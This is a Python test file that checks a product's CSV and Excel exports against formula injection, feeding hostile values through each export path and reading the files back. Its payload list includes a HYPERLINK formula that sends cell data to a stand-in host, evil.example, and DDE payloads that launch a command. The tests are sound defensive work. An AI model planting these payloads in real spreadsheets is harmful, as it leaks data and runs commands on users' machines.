"""Formula injection (security finding 3): every CSV and Excel file the product writes — the meeting pack, the
backlog, the department and street rankings, the import quarantine — goes through ``core.exports``, which keeps
text that starts like a formula as visible text (CSV: a leading apostrophe; XLSX: a quote-prefixed string, never a
formula cell) while numbers stay numbers. Hostile values are fed through each export's real path and the files are
read back with ``csv`` and openpyxl."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update

from core import exports
from core.i18n import translate
from data_access import action_items
from data_access import importer as im
from data_access.engine import make_engine
from data_access.migrate import upgrade
from data_access.schema import Department, Grid
from reports import departments as rd
from reports import weekly
from tests.builders import add_case, make_reference
from ui import backlog as backlog_view
from ui import meeting_pack, scorecards

ROOT = Path(__file__).resolve().parents[1]
WEEK = date(2026, 3, 2)
NOW = datetime(2026, 3, 20, 12, 0)

# One payload per formula lead, including the '-digit' form an earlier filter let through and the full-width forms.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "-5",
]
SHORT = [p[:32] for p in HOSTILE]  # case numbers are at most 32 characters


def _xlsx_cells(data: bytes):
    """Every cell of every sheet, the workbook read back by openpyxl as Excel would get it."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe_xlsx(data: bytes, expected: list[str]) -> list:
    """No formula cell; every text cell that starts like a formula is quote-prefixed text; each expected hostile
    value is there, unchanged."""
    cells = _xlsx_cells(data)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    unprefixed = [
        (c.parent.title, c.coordinate, c.value)
        for c in cells
        if isinstance(c.value, str) and exports.formula_like(c.value) and not c.quotePrefix
    ]
    assert unprefixed == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    missing = [v for v in expected if v.replace("\r", "\n") not in texts]  # XML reads a CR as LF
    assert missing == []
    return cells


def _csv_rows(data: bytes) -> list[list]:
    """The CSV read with QUOTE_NONNUMERIC: unquoted fields must be numbers (they come back as floats)."""
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), quoting=csv.QUOTE_NONNUMERIC))


def _assert_safe_csv(data: bytes, expected: list[str]) -> list[list]:
    rows = _csv_rows(data)
    texts = [v for row in rows for v in row if isinstance(v, str)]
    assert [t for t in texts if exports.formula_like(t)] == []
    missing = [v for v in expected if "'" + v not in texts]
    assert missing == []
    return rows


# --- the shared writer ------------------------------------------------------------------------------------------------
def test_every_formula_lead_is_recognised():
    for lead in "=+-@\t\r\n＝＋－＠":
        assert exports.formula_like(lead + "1") and exports.csv_text(lead + "1") == "'" + lead + "1"
    for text in ("", "甲路1号", "'=1", " =1", "2026-03-02", "a=b"):
        assert not exports.formula_like(text) and exports.csv_text(text) == text


def test_writer_keeps_numbers_and_dates_and_neutralises_text():
    frame = pd.DataFrame(
        {
            "text": HOSTILE,
            "n": range(-5, -5 + len(HOSTILE)),
            "x": [-1.5] * len(HOSTILE),
            "when": [pd.Timestamp("2026-03-02 09:00")] * len(HOSTILE),
            "maybe": [None, float("nan"), pd.NA, *["ok"] * (len(HOSTILE) - 3)],
            "=header": ["x"] * len(HOSTILE),
        }
    )
    rows = _assert_safe_csv(exports.csv_bytes(frame), [*HOSTILE, "=header"])
    assert [r[1] for r in rows[1:]] == [float(v) for v in range(-5, -5 + len(HOSTILE))]  # unquoted: numbers
    assert rows[1][2] == -1.5 and rows[1][3] == "2026-03-02 09:00:00" and rows[1][4] == rows[2][4] == ""
    cells = _assert_safe_xlsx(exports.xlsx_bytes({"sheet": frame}), [*HOSTILE, "=header"])
    numbers = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert numbers == list(range(-5, -5 + len(HOSTILE))) and all(
        c.data_type == "n" for c in cells if c.column in (2, 3) and c.row > 1
    )
    assert isinstance(cells[len(frame.columns) + 3].value, datetime)  # row 2, column "when"


def test_xlsx_survives_control_characters_and_long_sheet_names():
    frame = pd.DataFrame({"note": ["a\x01b\x0bc", "=\x02"]})
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"x" * 40: frame})))
    sheet = book.worksheets[0]
    assert sheet.title == "x" * 31
    assert [sheet["A2"].value, sheet["A3"].value] == ["a\ufffdb\ufffdc", "=\ufffd"] and sheet["A3"].data_type == "s"


def test_nothing_else_writes_csv_or_excel():
    """The class, not the instance: outside ``core/exports.py`` no application module writes CSV or Excel itself."""
    writer = re.compile(
        r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer|DictWriter|Workbook\(|xlsxwriter|\.to_clipboard\("
    )
    offenders = []
    for package in ("pages", "ui", "reports", "data_access", "analytics", "core", "worker", "deploy"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if path == ROOT / "core" / "exports.py":
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if writer.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == []


# --- the meeting pack -------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_week(tmp_path_factory):
    """A week where every free text — case numbers, addresses, return notes, action items and their authors, a
    department and a grid name — starts with a formula lead."""
    url = f"sqlite:///{tmp_path_factory.mktemp('exports') / 'exports.db'}"
    writer = make_engine(url, read_only=False)
    upgrade(writer)
    make_reference(writer)
    with writer.begin() as conn:
        conn.execute(update(Department).where(Department.id == 1).values(name=HOSTILE[2]))
        conn.execute(update(Grid).where(Grid.id == 22).values(name=HOSTILE[3]))
    for i, payload in enumerate(HOSTILE):
        department = i % 3 + 1
        # overdue and still open: the overdue sheet (case number, address)
        add_case(
            writer,
            case_no=SHORT[i],
            grid_id=22,
            reported_at=datetime(2026, 2, 20, 9),
            department_id=department,
            deadline_at=datetime(2026, 2, 25, 9),
            address=payload,
        )
        # returned during the week: the events sheet (note); reported in the week: the places sheet (address)
        add_case(
            writer,
            case_no=f"R{i:03d}",
            grid_id=12,
            reported_at=datetime(2026, 3, 4, 10),
            department_id=department,
            address=payload,
            events=[
                dict(
                    at=datetime(2026, 3, 4, 11),
                    action="return",
                    from_status="in_disposal",
                    to_status="pending_dispatch",
                    department_id=department,
                    note=payload,
                )
            ],
        )
        if payload.strip():
            action_items.create_item(
                writer,
                department_id=department,
                text=payload,
                due_date=date(2026, 3, 13),
                week=WEEK,
                created_by=payload[:64],
                now=NOW,
            )
    model = weekly.build(writer, weekly.WeeklyParams(WEEK), now=NOW)
    writer.dispose()
    return model


def test_meeting_pack_xlsx_has_no_formula(hostile_week):
    data = meeting_pack.build_xlsx(hostile_week)
    cells = _assert_safe_xlsx(data, [*HOSTILE, *SHORT])
    book = openpyxl.load_workbook(io.BytesIO(data))
    overdue = book[translate("pack", "sheet_overdue", "zh")]
    header = [c.value for c in overdue[1]]
    days = header.index(translate("pack", "col_days_overdue", "zh")) + 1
    values = [overdue.cell(row=r, column=days) for r in range(2, overdue.max_row + 1)]
    assert len(values) == len(HOSTILE) and all(c.data_type == "n" and c.value > 0 for c in values)
    assert len(cells) > 100


# --- the backlog --------------------------------------------------------------------------------------------------
def test_backlog_exports_have_no_formula():
    n = len(HOSTILE)
    units = pd.DataFrame(
        {
            "unit_id": range(n),
            "name": HOSTILE,
            "population": [20000] * n,
            "open": [4] * n,
            "overdue": [1] * n,
            "age_0_1": [1] * n,
            "age_1_3": [1] * n,
            "age_3_7": [1] * n,
            "age_over_7": [1] * n,
            "oldest_reported_at": [pd.Timestamp("2026-11-02 09:00")] * n,
            "parked": [1] * n,
            "open_week_ago": [6] * n,
            "change": [-2] * n,  # a negative NUMBER stays a number
            "per_1000": [0.2] * n,
        }
    )
    table = backlog_view.unit_table(units)
    change = list(table.columns).index(backlog_view.T("change"))
    rows = _assert_safe_csv(backlog_view.csv_bytes(table), HOSTILE)
    assert all(r[change] == -2.0 for r in rows[1:])
    cells = _assert_safe_xlsx(backlog_view.xlsx_bytes(table), HOSTILE)
    changes = [c for c in cells if c.column == change + 1 and c.row > 1]
    assert [c.value for c in changes] == [-2] * n and {c.data_type for c in changes} == {"n"}


# --- the department and street rankings ----------------------------------------------------------------------------
def test_ranking_exports_have_no_formula():
    n = len(HOSTILE)
    ranked = pd.DataFrame(
        {
            "code": [f"c{i}" for i in range(n)],
            "name": HOSTILE,
            "grade": ["=A"] * n,
            "due": [40] * n,
            "score": [-91.5] * n,
            "ontime_rate": [0.95] * n,
            "oe": [1.02] * n,
            "oe_lo": [0.98] * n,
            "oe_hi": [1.05] * n,
            "oe_rank": pd.array(range(1, n + 1), dtype="Int64"),
            "oe_rank_lo": pd.array([1] * n, dtype="Int64"),
            "oe_rank_hi": pd.array([2] * n, dtype="Int64"),
            "oe_status": ["tied"] * n,
            "oe_rank_change": pd.array([-1] * n, dtype="Int64"),
        }
    )
    frame = scorecards.ranking_frame(ranked, "oe", "name", "部门", rd.DEPARTMENT_COLUMNS, extra_first=("grade",))
    rows = _assert_safe_csv(scorecards.to_csv(frame), [*HOSTILE, "=A", "-1"])  # the change text "-1" too
    rank = list(frame.columns).index(scorecards.T("rank"))
    assert [r[rank] for r in rows[1:]] == [float(i) for i in range(1, n + 1)]
    cells = _assert_safe_xlsx(scorecards.to_xlsx(frame, "department_ranking"), [*HOSTILE, "=A", "-1"])
    assert [c.value for c in cells if c.column == rank + 1 and c.row > 1] == list(range(1, n + 1))


# --- the import quarantine ------------------------------------------------------------------------------------------
def test_quarantine_csv_has_no_formula(tmp_path):
    header = ["INFOBCNAME", "ADDRESS", ""]
    items = [
        {
            "row_number": i + 2,
            "reason_code": "bad_time",
            "reason_text": payload,
            "raw": {"INFOBCNAME": payload, "ADDRESS": payload, **({"_extra": ["x"]} if i == 0 else {})},
        }
        for i, payload in enumerate(HOSTILE)
    ]
    target = tmp_path / "q.csv"
    im.write_quarantine_csv(target, header, items)
    rows = _assert_safe_csv(target.read_bytes(), HOSTILE)
    assert rows[0] == ["row", "reason_code", "reason", "INFOBCNAME", "ADDRESS", "_extra"]
    assert [r[0] for r in rows[1:]] == [float(i + 2) for i in range(len(HOSTILE))]  # row numbers are numbers
    assert rows[1][5] == '["x"]' and rows[3][3] == "'-2+3+cmd|' /C calc'!A0"
